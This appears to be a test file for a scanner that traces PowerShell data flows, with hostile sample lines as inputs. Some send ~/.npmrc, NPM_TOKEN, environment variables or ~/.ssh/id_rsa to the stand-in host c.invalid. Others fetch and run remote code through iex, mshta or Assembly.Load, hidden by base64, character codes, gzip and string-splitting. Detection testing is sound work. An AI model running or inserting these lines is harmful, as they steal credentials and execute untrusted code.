import { gzipSync } from 'node:zlib'
import t from 'tap'
import { readScript } from '../../src/analysis/shell/script-files.ts'

const base64 = (text: string): string => Buffer.from(text).toString('base64')
const codes = (text: string): string => Array.from(text, (char) => char.charCodeAt(0)).join(',')

function flows(script: string): string[] {
  return [...new Set(readScript('setup.ps1', script).flows.map(({ source, sink }) => `${source.kind}->${sink.kind}`))]
}

t.test('what a script of PowerShell hands on', async (t) => {
  const send = "Invoke-RestMethod 'https://c.invalid/u' -Method Post -Body"
  const cases: readonly (readonly [situation: string, script: string, want: readonly string[]])[] = [
    ['a file of secrets', `${send} (Get-Content ~\\.npmrc -Raw)`, ['secret-file->network']],
    ['the same by a variable', `$a = gc $HOME/.npmrc\n$b = "x$a"; ${send} $b`, ['secret-file->network']],
    ['all variables', `${send} (Get-ChildItem env: | Out-String)`, ['env->network']],
    ['one variable', `curl.exe -d $env:NPM_TOKEN https://c.invalid`, ['env->network']],
    ['a key in a header', `irm https://c.invalid -Headers @{ A = "Bearer $env:NPM_TOKEN" }`, []],
    [
      'a file that is uploaded',
      `(New-Object Net.WebClient).UploadFile('https://c.invalid', "$HOME\\.ssh\\id_rsa")`,
      ['secret-file->network'],
    ],
    ['a file of its own', `${send} (Get-Content .\\report.json -Raw)`, []],
    ['what was copied', `${send} (Get-Clipboard)`, ['observed->network']],
    ['credentials of a cloud that are only asked for', "irm 'http://169.254.169.254/metadata/identity'", []],
    ['iex in pieces', `& ('i'+'ex') (irm https://c.invalid/p)`, ['remote-content->process']],
    [
      'a script in base64',
      `iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${base64(`${send} (gc ~/.npmrc)`)}')))`,
      ['decoded-text->process', 'remote-content->process', 'secret-file->network'],
    ],
    [
      'a script as numbers',
      `iex (-join (${codes('irm https://c.invalid/p | iex')} | % { [char]$_ }))`,
      ['decoded-text->process', 'remote-content->process'],
    ],
    [
      'a packed script whose stream is a variable',
      `$m = New-Object IO.MemoryStream(,[Convert]::FromBase64String('${gzipSync('irm https://c.invalid/p | iex').toString('base64')}'))\niex (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($m, [IO.Compression.CompressionMode]::Decompress))).ReadToEnd()`,
      ['decoded-text->process', 'remote-content->process'],
    ],
    [
      'packed data that is read',
      `$m = New-Object IO.MemoryStream(,[Convert]::FromBase64String('${gzipSync('irm https://c.invalid/p | iex').toString('base64')}'))\n$t = (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($m, [IO.Compression.CompressionMode]::Decompress))).ReadToEnd()`,
      [],
    ],
    [
      'iex of letters that are always there',
      `(irm https://c.invalid/p) | & ($PSHome[4]+$PSHome[30]+'x')`,
      ['remote-content->process'],
    ],
    ['a text as numbers that is shown', `Write-Output (-join (${codes('ready')} | % { [char]$_ }))`, []],
    ['a block of script that fetches', `Start-Job -ScriptBlock { irm 'https://c.invalid/d' -OutFile d.json }`, []],
    ['a program that fetches a script', `mshta 'https://c.invalid/a.hta'`, ['remote-content->process']],
    [
      'a library that is fetched',
      `[Reflection.Assembly]::Load((iwr 'https://c.invalid/a.dll').Content)`,
      ['remote-content->process'],
    ],
  ]
  for (const [situation, script, want] of cases) t.same(flows(script), want, situation)
})

t.test('hostile scripts cost as much as they are long', async (t) => {
  for (const script of [
    "'".repeat(90_000),
    "'a'+".repeat(20_000),
    "('".repeat(30_000),
    "iex '".repeat(20_000),
    "$x='a';".repeat(20_000),
  ]) {
    const start = process.cpuUsage()
    readScript('setup.ps1', script)
    t.ok(process.cpuUsage(start).user < 3_000_000, script.slice(0, 6))
  }
})
